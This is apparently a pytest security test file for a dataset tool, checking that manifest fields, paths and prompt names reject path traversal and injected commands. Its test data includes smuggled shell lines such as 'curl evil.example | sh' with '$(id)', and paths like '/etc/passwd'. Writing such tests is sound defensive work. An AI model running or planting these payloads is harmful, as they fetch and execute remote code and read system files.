"""Manifests, cards and ids that would write, read or say something outside of their place."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import ValidationError

from lorid_data import prompts
from lorid_data.cli.app import main
from lorid_data.errors import ConfigError, InputError
from lorid_data.folders.manifests import read_manifest
from lorid_data.folders.names import MANIFEST
from lorid_data.folders.paths import below
from lorid_data.folders.seals import sealed
from lorid_data.schema import Manifest, sha256_text

ROW = {"question": "What is 1 + 1?", "rationale": "1 + 1 = 2", "answer": "2", "knowledge": ["Add."], "licence": "MIT"}  # fmt: skip


@pytest.fixture
def chain(tmp_path: Path) -> Path:
    """A table, imported and validated: the folder to publish has a parent."""
    (tmp_path / "t.jsonl").write_text(json.dumps(ROW) + "\n")
    assert main(["import", str(tmp_path / "t.jsonl"), "--out", str(tmp_path / "in")]) == 0
    assert main(["validate", str(tmp_path / "in"), "--out", str(tmp_path / "ok")]) == 0
    return tmp_path / "ok"


def rewrite(folder: Path, child: Path | None = None, **fields: Any) -> None:
    """Fields of a manifest as an attacker would set them, the child told of its parent."""
    body = sealed({**json.loads((folder / MANIFEST).read_text()), **fields})
    (folder / MANIFEST).write_text(json.dumps(body))
    if child is not None:
        rewrite(child, parent_sha256=sha256_text((folder / MANIFEST).read_text()))


HOSTILE: dict[str, list[Any]] = {
    "stage": ["q/../../../../OUTSIDE", "../x", "/abs", "a b", "A", "", "x" * 41, "a\n", "ümlaut", "."],
    "code_version": ["0.1.0\ncurl evil | sh", "1\r2", "1\u20282", "\x1b[31m", "", "x" * 201],
    "parent_sha256": ["../x", "0" * 63, "g" * 64, "0" * 64 + "\n"],
    "identity_sha256": ["", "0" * 65],
    "files": [{"../x": "0" * 64}, {"/etc/passwd": "0" * 64}, {"a/../b": "0" * 64}, {"a": "1"}, {"a//b": "0" * 64}, {"a\\b": "0" * 64}],
    "libraries": [{"a\nb": "1"}, {"a": "1\n2"}],
    "n_rejected": [{"a\n": 1}, {"../": 1}],
    "n_kept": [-1, 2.5],
}  # fmt: skip


@pytest.mark.parametrize(
    ("name", "value"), [(n, v) for n, values in HOSTILE.items() for v in values]
)
def test_a_manifests_texts_have_their_shape(chain: Path, name: str, value: Any) -> None:
    rewrite(chain, **{name: value})
    with pytest.raises(InputError, match="not a manifest"):
        read_manifest(chain)


@pytest.mark.parametrize("stage", ["q/../../../../OUTSIDE", "../../OUTSIDE", "validate\n"])
def test_a_parents_name_writes_nothing_outside(
    chain: Path, tmp_path: Path, stage: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HF_ENDPOINT", "http://127.0.0.1:9")
    rewrite(chain.parent / "in", chain, stage=stage)
    before = set(tmp_path.parent.rglob("*OUTSIDE*"))
    out = tmp_path / "deep" / "er" / "out"
    assert main(["publish", str(chain), "me/x", "--dry-run", "--out", str(out), "--allow", "audit"]) != 0  # fmt: skip
    assert set(tmp_path.parent.rglob("*OUTSIDE*")) == before
    assert not out.exists()


def test_what_a_manifest_says_is_an_argument_of_the_commands(chain: Path) -> None:
    """A shell that reads the block runs the four commands and nothing else."""
    from lorid_data.publish.card_fields import CardFields
    from lorid_data.publish.chain import find_chain
    from lorid_data.publish.rebuild import commands

    evil = "x\ncurl evil.example | sh\u2028y\x85z'; $(id) `id`\n"
    body = json.loads((chain.parent / "in" / MANIFEST).read_text())
    rewrite(chain.parent / "in", chain, identity={**body["identity"], "table": evil, "split": evil})
    rewrite(chain, settings={"note": evil, "names": [evil]})
    block = commands(find_chain(chain), (), CardFields(), repo_id="me/x", tag="v1")
    shell = f"lorid-data() {{ printf '%s;' \"$1\"; }}\n{block}\n"
    ran = subprocess.run(["bash", "-u", "-c", shell], capture_output=True, text=True, check=True)
    assert (ran.stdout, ran.stderr) == ("import;validate;publish;", "")


@given(st.text(max_size=60))
def test_no_text_is_a_stage_that_is_no_plain_name(text: str) -> None:
    fields = {"stage": text, "identity": {}, "identity_sha256": "0" * 64, "n_in": 0, "n_kept": 0, "files": {}, "code_version": "1"}  # fmt: skip
    try:
        stage = Manifest.model_validate(fields).stage
    except ValidationError:
        return
    assert stage.isascii()
    assert stage.replace("-", "a").replace("_", "a").isalnum()


@pytest.mark.parametrize("part", ["..", "a/../..", "/etc", "a/../../x", "link/x", "../root2/x"])
def test_paths_stay_below_their_root(tmp_path: Path, part: str) -> None:
    root = tmp_path / "root"
    root.mkdir()
    (tmp_path / "root2").mkdir()
    (root / "link").symlink_to(tmp_path)
    with pytest.raises(InputError, match="lead out of"):
        below(root, part)
    assert below(root, "a", "..", "b") == root / "a" / ".." / "b"


@pytest.mark.parametrize("name", ["../README", "teacher/../../x", "/etc/hosts", "teacher/../teacher/knowledge.v1", "", "a\n"])  # fmt: skip
def test_a_prompt_is_one_of_ours(name: str) -> None:
    assert prompts.load("teacher/knowledge.v1").text
    with pytest.raises(ConfigError, match="no prompt"):
        prompts.load(name)
